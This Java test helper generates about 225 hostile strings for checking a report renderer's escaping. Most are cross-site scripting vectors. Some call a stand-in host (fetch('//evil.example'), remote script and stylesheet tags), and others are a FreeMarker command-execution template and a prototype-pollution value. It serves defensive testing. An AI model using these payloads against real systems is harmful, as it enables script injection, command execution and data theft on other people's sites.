package dev.onrush.report.testing;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/** Texts that want to be more than text. */
public final class Hostile {
    private static final String[] ACTS = {
        "alert(1)", "window.__xss=1", "document.title='x'", "fetch('//evil.example')", "confirm`1`",
    };
    private static final String[] SHAPES = {
        "<script>%s</script>",
        "<SCRIPT SRC=//evil.example/x.js>%s</SCRIPT>",
        "</script><script>%s</script>",
        "<!--<script>%s",
        "--><script>%s</script>",
        "]]><script>%s</script>",
        "<img src=x onerror=%s>",
        "<svg onload=%s>",
        "<svg><script>%s</script></svg>",
        "<svg><animate onbegin=%s attributeName=x>",
        "<body onload=%s>",
        "<iframe srcdoc=\"<script>%s</script>\">",
        "<iframe src=\"javascript:%s\">",
        "<a href=\"javascript:%s\">x</a>",
        "<math><mi xlink:href=\"javascript:%s\">x",
        "<style>@import '//evil.example';</style>%s",
        "<link rel=stylesheet href=//evil.example>%s",
        "<meta http-equiv=refresh content=\"0;url=javascript:%s\">",
        "<base href=//evil.example/>%s",
        "<form action=//evil.example><button>%s",
        "<details open ontoggle=%s>",
        "<input autofocus onfocus=%s>",
        "<video><source onerror=%s>",
        "<object data=\"javascript:%s\">",
        "<template><script>%s</script></template>",
        "</title><script>%s</script>",
        "</textarea><script>%s</script>",
        "</style><script>%s</script>",
        "\"><script>%s</script>",
        "'><script>%s</script>",
        "\" onmouseover=\"%s",
        "' onmouseover='%s",
        "` onmouseover=`%s",
        "javascript:%s",
        "';%s;//",
        "\";%s;//",
        "\\\";%s;//",
        "\\u003cscript\\u003e%s\\u003c/script\\u003e",
        "&lt;script&gt;%s&lt;/script&gt;",
        "&#60;script&#62;%s",
        "${\"freemarker.template.utility.Execute\"?new()(\"%s\")}",
        "<#assign x=\"%s\">${x?no_esc}",
        "#{%s}",
        "{\"__proto__\":{\"x\":\"%s\"}}",
    };

    private Hostile() {}

    /** 225 payloads. */
    public static List<String> payloads() {
        List<String> payloads = new ArrayList<>();
        for (String shape : SHAPES) {
            for (String act : ACTS) {
                payloads.add(shape.replace("%s", act));
            }
        }
        payloads.add("line\u2028separator\u2029paragraph");
        payloads.add("right \u202Eto left \u2066isolated");
        payloads.add("control \u0000\u0001\u001B[31m\u007F\u009B");
        payloads.add("lone \uD83D surrogate \uDE00 and a pair \uD83D\uDE00");
        payloads.add("x".repeat(4000) + "<script>");
        return payloads;
    }

    /** Any characters, with those that matter often. */
    public static String random(Random random) {
        String special = "<>&\"'\\/\u2028\u2029\u0000\n\r\t{}[]:,-!`\uD800\uDFFF\uFEFF\uFFFF";
        StringBuilder text = new StringBuilder();
        int length = random.nextInt(40);
        for (int i = 0; i < length; i++) {
            text.append(
                    random.nextBoolean()
                            ? special.charAt(random.nextInt(special.length()))
                            : (char) random.nextInt(0x10000));
        }
        return text.toString();
    }
}
